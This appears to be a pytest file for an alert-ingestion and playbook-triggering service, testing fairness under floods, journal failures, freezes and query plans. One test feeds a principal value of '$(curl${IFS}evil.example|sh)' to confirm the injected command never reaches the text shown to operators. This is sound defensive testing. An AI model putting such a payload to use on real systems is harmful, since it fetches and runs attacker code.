"""Whoever holds one alert secret, and knows how this works: he neither hides the real alert nor puts words into our mouth."""

import asyncio
import json
import threading
from types import SimpleNamespace

import pytest
from sqlalchemy import event

from engine.alert import Provenance
from engine.freezing import freezing
from journal.clock import now
from journal.errors import JournalFailed
from journal.event import JOURNAL
from tests.triggers.alerts.alert_house import PLAYBOOK, alert
from tests.triggers.alerts.doorway import Doorway
from tests.triggers.alerts.trust import signers as by
from triggers.alerts import reading
from triggers.alerts.acting import acting
from triggers.alerts.acting.starting import Starter
from triggers.alerts.inbox import Inbox
from triggers.alerts.reading import facts, texts, things
from triggers.alerts.trust.model import Verified

OURS = "ringfence@acme.example"
ALL = {
    "principals": [{"kind": "user", "id": "u-1"}],
    "credentials": [{"kind": "oauth_client", "id": "c-1", "client_id": "drift-prod"}],
}


@pytest.mark.parametrize(
    "first",
    [
        {"type": "noise"}, {"app": None}, {"app": "nobodys"}, {"severity_label": "unknown", "severity": 100},
        {"principals": [*ALL["principals"], {"kind": "api_client", "id": OURS}]}, {"status": "resolved"},
    ],
    ids=["another type", "no best app", "another app", "no word for it", "names us", "resolved"],
)  # fmt: skip
async def test_an_id_that_he_announced_before_hides_no_real_alert(house, first):
    async with house(identity={"practice_idp": [OURS]}) as it:
        await it.acts({**alert("X", severity=100, **ALL), **first})
        assert it.runs() == []
        *_, act = await it.acts(alert("X", principals=ALL["principals"]))
        assert act.word == "started"


async def test_the_command_that_people_are_told_holds_no_text_of_his(house):
    playbook = PLAYBOOK.replace("inputs:\n", "inputs:\n  who: {type: text}\n").replace(
        'with: {integration: "${alert.app}"}', 'with: {integration: "${alert.app}", who: "${alert.principal}"}', 1
    )
    async with house(playbook=playbook) as it:
        (act,) = await it.acts(alert(principal="$(curl${IFS}evil.example|sh)"))
        assert act.word == "proposed"
        await asyncio.sleep(0.3)
        told = "\n".join(it.told)
        assert "-i integration=drift" in told
        assert "evil" not in told
        assert "-i who=..." in told


async def test_the_loudest_alarm_is_not_lost_where_the_journal_was_away(house, monkeypatch):
    async with house(identity={"practice_idp": [OURS]}) as it:
        record, failed = it.journal.record, []

        async def once(*drafts):
            if drafts and drafts[0].type == "our_credential" and not failed:
                failed.append(1)
                raise JournalFailed("away")
            return await record(*drafts)

        monkeypatch.setattr(it.journal, "record", once)
        await it.acts(alert(principal=OURS, app="calendar-sync", type="client.enable"))
        await asyncio.sleep(0.3)
        assert failed
        assert len(it.events("our_credential")) == 1
        assert any("OUR OWN CREDENTIAL" in line for line in it.told)


async def test_a_flood_keeps_nothing_waiting_that_a_dead_service_left(house):
    """Rows that are nobody's are taken too while something of another sender is always at hand."""
    async with house(sources={"okta": {"secrets": ["env:ALERT_SECRET"], "auto": "hold"},
                              "noise": {"source": "okta", "secrets": ["env:ALERT_SECRET"]}}) as it:  # fmt: skip
        take_in, number, left = it.alerts._take_in, 0, asyncio.Event()

        async def flooded(rows, taken):
            nonlocal number
            number += 1
            await left.wait()
            await it.deliver(alert("N", type="noise"), name="noise", delivery=f"d{number}")
            await take_in(rows, taken)

        it.alerts._take_in = flooded
        while not it.alerts.inbox.acting:
            await asyncio.sleep(0.01)
        await it.deliver(alert("N", type="noise"), name="noise")
        it.alerts.inbox.acting = False
        await it.deliver(alert("LEFT"), name="okta")  # nobody's, as after a crash
        it.alerts.inbox.acting = True
        left.set()
        async with asyncio.timeout(20):
            while not it.runs():
                await asyncio.sleep(0.05)
        it.alerts._take_in = take_in


async def test_a_hiccup_of_the_journal_delays_what_was_taken_by_no_minute(house, monkeypatch):
    async with house() as it:
        rows = await it.alerts.inbox.rows()
        sift, failed = rows.sift, []

        async def once(deliveries):
            if not failed:
                failed.append(1)
                raise JournalFailed("away")
            return await sift(deliveries)

        monkeypatch.setattr(rows, "sift", once)
        await it.deliver(alert())
        (act,) = await it.settled(20)
        assert failed
        assert act.word == "started"


async def test_large_deliveries_are_taken_few_at_a_time_and_in_turns(house):
    """Sixty deliveries of a thousand findings each in one batch kept every other way in waiting for a minute."""
    async with house(workers=False) as it:
        await it.alerts.end()
        inbox = Inbox(it.journal)
        inbox.acting = True

        async def keep(name, number, raw):
            await inbox.keep(name, "okta", f"{name}{number}", raw, Verified("header", "s", ""))

        for number in range(60):
            await keep("his", number, bytes(50_000))
        await keep("okta", 1, b"{}")
        taken = inbox.take(60)
        assert len(taken) <= 3
        assert [row.name for row in taken].count("okta") == 1
        inbox.put_back(taken, first=True)
        assert inbox.take(1)[0].number == taken[0].number
        inbox.close()


async def test_many_alerts_of_an_incident_that_was_closed_cost_one_look(house, monkeypatch):
    """Else whoever grouped a hundred thousand of them at an integration would delay its next hold by minutes."""
    async with house() as it:
        await it.acts(alert("G", type="token.odd"))
        await it.acts(*(alert(f"G{number}", type="token.odd") for number in range(8)))
        (plan,) = it.runs("dry-run")
        asked, closed_at = [], it.journal.closed_at

        def closed(incident):
            asked.append(incident)
            return "2026-01-01T00:00:00.000000Z" if incident == plan.incident else closed_at(incident)

        monkeypatch.setattr(it.journal, "closed_at", closed)
        *_, act = await it.acts(alert("REAL"))
        assert act.word == "started"
        assert act.incident != plan.incident
        assert asked.count(plan.incident) == 1


async def test_a_freeze_is_not_lifted_by_a_reader_that_came_late(house):
    """Two read the chain side by side; the one that read less of it ends last."""
    async with house() as it:
        freezes, events = it.alerts.actor._freezes, it.journal.events
        await it.journal.record(freezing("ana", "why", now(), on=False, minutes=0))
        early = events(JOURNAL, 0, names=False)
        await it.journal.record(freezing("ana", "why", now(), on=True, minutes=30))
        assert freezes.now() is not None
        freezes._journal = type("Late", (), {"events": staticmethod(lambda *_, **__: early)})()
        freezes.now()
        freezes._journal = it.journal
        assert freezes.now() is not None


async def test_a_run_that_was_begun_stands_though_its_source_was_taken_out(house):
    async with house() as it:
        rows = await it.alerts.inbox.rows()
        reserve, limits = rows.reserve, []

        async def reserved(act, run, integration, playbook, given):
            limits.append(given)
            return await reserve(act, run, integration, playbook, given)

        rows.reserve = reserved
        (act,) = await it.acts(alert())
        wanted = next(iter(limits))
        assert wanted.of_name == 3
        sources = dict(it.inventory.config.alerts.sources)
        sources.pop("okta")
        config = it.inventory.config.model_copy(
            update={"alerts": it.inventory.config.alerts.model_copy(update={"sources": sources})}
        )
        gone = SimpleNamespace(inventory=SimpleNamespace(config=config), row=SimpleNamespace(name="okta"), act=act)
        assert Starter._limits(gone).of_name == 0


async def test_one_that_takes_long_to_read_keeps_no_other_sender_waiting(house):
    async with house() as it:
        read, end = it.alerts._read, threading.Event()

        def slowly(source, raw, *args, **more):
            if len(raw) > 20_000:
                assert end.wait(40)
            return read(source, raw, *args, **more)

        it.alerts._read = slowly
        await it.deliver(alert("SLOW", type="noise", parse_notes=["x" * 30_000]), name="dry")
        await asyncio.sleep(0.2)
        await it.deliver(alert("REAL"))
        async with asyncio.timeout(20):
            while not it.runs():
                await asyncio.sleep(0.02)
        end.set()
        assert sorted(act.word for act in await it.settled()) == ["dismissed", "started"]


def test_a_list_of_ever_so_many_addresses_is_read_as_far_as_anybody_needs(monkeypatch):
    counted = []
    monkeypatch.setattr(facts, "as_address", lambda text: counted.append(text) or texts.as_address(text))
    monkeypatch.setattr(things, "as_address", lambda text: counted.append(text) or texts.as_address(text))
    many = [f"1.{i >> 16}.{(i >> 8) % 256}.{i % 256}" for i in range(60_000)]
    raw = json.dumps({"id": "1", "type": "t", "title": "x", "severity": "high", "ip": many}).encode()
    (found,) = reading.read("generic", raw, provenance=Provenance(verified=True, scheme="x", received_at=now())).alerts
    assert len(found.ips) == 50
    assert found.ip is None
    assert len(counted) <= 5000


async def test_a_repeat_whose_body_is_gone_is_not_called_unreadable(house):
    async with house() as it:
        await it.acts(alert("N", type="noise"))
        await it.acts(alert("N", type="noise"), delivery="d2")
        assert await it.alerts.one(2) is None
        assert it.words() == ["dismissed", "repeat"]


async def test_that_nothing_can_be_kept_is_said_once_and_once_that_it_can_again():
    way = Doorway()
    keep, told = way.door.inbox.keep, []
    way.door.tell = told.append

    async def full(*_args, **_more):
        raise OSError("no space left")

    way.door.inbox.keep = full
    for number in range(5):
        body = b'{"a": %d}' % number
        assert (await way.ask("okta", body, by.header(body))).status_code == 503
    assert len(told) == 1
    way.door.inbox.keep = keep
    assert (await way.ask("okta", b"{}", by.header(b"{}"))).status_code == 200
    assert told[1:] == ["Alerts from okta can be kept again."]


async def test_an_act_that_waits_says_so_once(house, monkeypatch):
    monkeypatch.setattr(acting, "AGAIN_S", 0.02)
    async with house() as it:
        decided, tries = it.alerts.actor._decided, []

        async def away(*args):
            tries.append(1)
            if len(tries) < 6:
                raise JournalFailed("the disk is full")
            await decided(*args)

        it.alerts.actor._decided = away
        await it.acts(alert())
        assert len([line for line in it.told if "the disk is full" in line]) == 1


async def test_no_decision_reads_all_that_ever_came_of_alerts(house):
    """Each is made while nobody else writes: over a million acts one took the better part of a second."""
    async with house() as it:
        asked = []
        event.listen(it.journal.database.engine, "before_cursor_execute", lambda *given: asked.append(given[2:4]))
        await it.acts(alert("P", type="token.odd"), alert("S"))
        plans = []
        with it.journal.database.engine.connect() as conn:
            for said, values in asked:
                if " acts" in said and said.startswith("SELECT") and "WHERE" in said:  # the others are ours
                    plans += [
                        (str(row[-1]), said) for row in conn.exec_driver_sql(f"EXPLAIN QUERY PLAN {said}", values)
                    ]
        assert plans
        assert [said for plan, said in plans if plan.startswith("SCAN acts") and "INDEX" not in plan] == []
